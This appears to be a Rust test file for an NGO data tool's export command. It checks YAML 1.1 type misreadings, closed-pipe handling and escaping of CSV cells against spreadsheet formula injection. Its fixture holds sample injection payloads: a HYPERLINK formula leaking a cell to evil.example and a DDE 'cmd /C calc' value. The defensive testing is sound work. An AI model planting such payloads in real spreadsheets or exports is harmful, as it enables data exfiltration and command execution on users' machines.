//! What exports do with values that other programs would take for something else: YAML read by
//! a YAML 1.1 reader (PyYAML), CSV opened in a spreadsheet, and an export piped into `head`.

use crate::export::{ok, run};
use regex::Regex;
use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::process::Stdio;

/// Values that a YAML 1.1 reader takes for booleans, numbers, dates and nulls when unquoted.
const MISREAD: [&str; 22] = [
    "on",
    "Yes",
    "NO",
    "y",
    "Off",
    "1_000",
    "12:30:00",
    "2020-01-02",
    "~",
    "null",
    "0777",
    "0x1F",
    "0b101",
    "190:20:30",
    ".nan",
    "-.inf",
    "1.5",
    "=",
    "<<",
    "2001-12-14t21:59:43.10-05:00",
    "+12",
    "NULL",
];

fn misread_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let q = "  sources:\n    - {source: src, quote: \"q\"}\n";
    let mut orgs = String::new();
    for (i, v) in MISREAD.iter().enumerate() {
        let v = serde_json::to_string(v).unwrap();
        orgs.push_str(&format!(
            "- id: org-{i}\n  name: {v}\n  aliases: [{v}]\n  summary: {v}\n{q}"
        ));
    }
    std::fs::write(dir.path().join("organizations.yaml"), orgs).unwrap();
    std::fs::write(
        dir.path().join("sources.yaml"),
        "- id: src\n  name: \"yes\"\n  summary: \"2020-01-02\"\n  language: \"no\"\n",
    )
    .unwrap();
    dir
}

/// The implicit types of YAML 1.1 (yaml.org/type: bool, null, int, float, timestamp, merge,
/// value), as their regular expressions; a plain scalar matching none of them is a string.
struct Yaml11 {
    types: Vec<(&'static str, Regex)>,
}

impl Yaml11 {
    fn new() -> Yaml11 {
        let t = |name, re: &str| (name, Regex::new(&format!("^(?:{re})$")).unwrap());
        Yaml11 {
            types: vec![
                t(
                    "bool",
                    "y|Y|yes|Yes|YES|n|N|no|No|NO|true|True|TRUE|false|False|FALSE|on|On|ON|off|Off|OFF",
                ),
                t("null", "~|null|Null|NULL|"),
                t(
                    "int",
                    "[-+]?0b[0-1_]+|[-+]?0[0-7_]+|[-+]?(?:0|[1-9][0-9_]*)|[-+]?0x[0-9a-fA-F_]+|[-+]?[1-9][0-9_]*(?::[0-5]?[0-9])+",
                ),
                t(
                    "float",
                    r"[-+]?(?:[0-9][0-9_]*)?\.[0-9.]*(?:[eE][-+][0-9]+)?|[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*|[-+]?\.(?:inf|Inf|INF)|\.(?:nan|NaN|NAN)",
                ),
                t(
                    "timestamp",
                    r"[0-9][0-9][0-9][0-9]-[0-9][0-9]-[0-9][0-9]|[0-9][0-9][0-9][0-9]-[0-9][0-9]?-[0-9][0-9]?(?:[Tt]|[ \t]+)[0-9][0-9]?:[0-9][0-9]:[0-9][0-9](?:\.[0-9]*)?(?:[ \t]*Z|[-+][0-9][0-9]?(?::[0-9][0-9])?)?",
                ),
                t("merge", "<<"),
                t("value", "="),
            ],
        }
    }

    /// What a 1.1 reader makes of a plain scalar: its type's name, or "str".
    fn resolve(&self, plain: &str) -> &'static str {
        self.types
            .iter()
            .find(|(_, re)| re.is_match(plain))
            .map_or("str", |(name, _)| name)
    }
}

/// The scalars of the exporter's block YAML, keys and values in document order, each with
/// whether it was quoted. The exporter writes one node per line: indentation, `- ` markers,
/// then a key (`key:`) and its value, or a value; a double-quoted scalar uses JSON's escapes.
fn scalars(yaml: &str) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    for line in yaml.lines() {
        let mut rest = line.trim_start_matches(' ');
        while let Some(r) = rest.strip_prefix("- ") {
            rest = r;
        }
        while !rest.is_empty() {
            if rest == "[]" || rest == "{}" {
                break;
            }
            let (text, quoted, after) = if rest.starts_with('"') {
                let mut de = serde_json::Deserializer::from_str(rest).into_iter::<String>();
                let s = de.next().unwrap().unwrap_or_else(|e| panic!("{line}: {e}"));
                let used = de.byte_offset();
                (s, true, &rest[used..])
            } else {
                let end = rest
                    .find(':')
                    .filter(|&i| rest[i + 1..].is_empty() || rest[i + 1..].starts_with(' '));
                match end {
                    Some(i) => (rest[..i].to_string(), false, &rest[i..]),
                    None => (rest.to_string(), false, ""),
                }
            };
            out.push((text, quoted));
            rest = after
                .strip_prefix(':')
                .map_or("", |r| r.trim_start_matches(' '));
        }
    }
    out
}

/// The scalars of a JSON value in the same order, each as (type, text).
fn json_scalars(v: &Value, out: &mut Vec<(&'static str, String)>) {
    match v {
        Value::Null => out.push(("null", "null".into())),
        Value::Bool(b) => out.push(("bool", b.to_string())),
        Value::Number(n) if n.is_f64() => out.push(("float", n.to_string())),
        Value::Number(n) => out.push(("int", n.to_string())),
        Value::String(s) => out.push(("str", s.clone())),
        Value::Array(a) => a.iter().for_each(|x| json_scalars(x, out)),
        Value::Object(m) => m.iter().for_each(|(k, x)| {
            out.push(("str", k.clone()));
            json_scalars(x, out);
        }),
    }
}

fn check_yaml_1_1(args: &[&str]) -> usize {
    let mut yaml_args = vec!["export", "--format", "yaml"];
    yaml_args.extend_from_slice(args);
    let yaml = String::from_utf8(ok(&yaml_args)).unwrap();
    let mut json_args = vec!["export", "--format", "json"];
    json_args.extend_from_slice(args);
    let json: Value = serde_json::from_slice(&ok(&json_args)).unwrap();
    // A YAML 1.2 reader reads back exactly the JSON export.
    let back: Value = serde_yaml::from_str(&yaml).expect("valid YAML");
    assert_eq!(back, json);
    // So does a YAML 1.1 reader, scalar by scalar.
    let rules = Yaml11::new();
    let mut expected = Vec::new();
    json_scalars(&json, &mut expected);
    let found = scalars(&yaml);
    assert_eq!(found.len(), expected.len(), "{yaml}");
    for ((text, quoted), (ty, want)) in found.iter().zip(&expected) {
        let read_as = if *quoted { "str" } else { rules.resolve(text) };
        assert_eq!(
            read_as, *ty,
            "{text:?} is read as a {read_as}, should be {want:?}"
        );
        if *ty == "str" {
            assert_eq!(text, want);
        }
    }
    found.len()
}

#[test]
fn a_yaml_1_1_reader_reads_the_export_as_a_yaml_1_2_reader_does() {
    let data = misread_dir();
    let n = check_yaml_1_1(&["--data", data.path().to_str().unwrap()]);
    assert!(n > MISREAD.len() * 3, "every tricky value was checked");
    check_yaml_1_1(&[]);
}

#[test]
fn the_1_1_rules_here_are_the_spec_s() {
    let rules = Yaml11::new();
    for (plain, ty) in [
        ("on", "bool"),
        ("1_000", "int"),
        ("12:30:00", "int"),
        ("2020-01-02", "timestamp"),
        ("~", "null"),
        ("0777", "int"),
        ("1.5", "float"),
        ("1e3", "str"),
        ("Oxfam", "str"),
    ] {
        assert_eq!(rules.resolve(plain), ty, "{plain}");
    }
}

/// Reads one line of an export and closes the pipe, like `| head -1`.
fn head_1(args: &[&str]) -> (i32, String) {
    let mut child = crate::common::ngo_atlas()
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(!first.is_empty());
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn every_export_into_a_closed_pipe_ends_quietly() {
    for args in [
        &["export", "--format", "yaml"][..],
        &["export", "--format", "json"],
        &["export", "--format", "graphml"],
        &["export", "--format", "gexf"],
        &["export", "--format", "csv", "--kind", "organization"],
    ] {
        let (code, err) = head_1(args);
        assert_eq!((code, err.as_str()), (0, ""), "{args:?}");
    }
}

const FORMULAS: &str = r#"
- id: org-evil
  name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
  aliases: ["+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-5"]
  summary: "\t=1+1"
  sources:
    - {source: src, quote: "q"}
"#;

fn formulas_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("organizations.yaml"), FORMULAS).unwrap();
    std::fs::write(
        dir.path().join("sources.yaml"),
        "- id: src\n  name: \"-3\"\n  summary: s\n  language: en\n",
    )
    .unwrap();
    dir
}

fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::Reader::from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

#[test]
fn csv_cells_are_spreadsheet_safe_unless_raw_is_asked_for() {
    let data = formulas_dir();
    let d = data.path().to_str().unwrap();
    let args = [
        "export",
        "--data",
        d,
        "--format",
        "csv",
        "--kind",
        "organization",
    ];
    let safe = csv_cells(&ok(&args));
    let row = &safe[0];
    assert!(row[1].starts_with("'=HYPERLINK("), "{row:?}");
    assert_eq!(row[2], "'+1+cmd|' /C calc'!A0; @SUM(1+1); -5");
    assert_eq!(row[3], "'\t=1+1");
    let sources = csv_cells(&ok(&[
        "export", "--data", d, "--format", "csv", "--kind", "source",
    ]));
    assert_eq!(sources[0][1], "-3", "a number stays a number");
    let mut raw_args = args.to_vec();
    raw_args.push("--raw");
    let raw = csv_cells(&ok(&raw_args));
    assert!(raw[0][1].starts_with("=HYPERLINK("), "{raw:?}");
    assert_eq!(raw[0][3], "\t=1+1");
    let (code, _, err) = run(&["export", "--data", d, "--format", "json", "--raw"]);
    assert_eq!(code, 2);
    assert!(err.contains("--raw is for CSV"), "{err}");
}
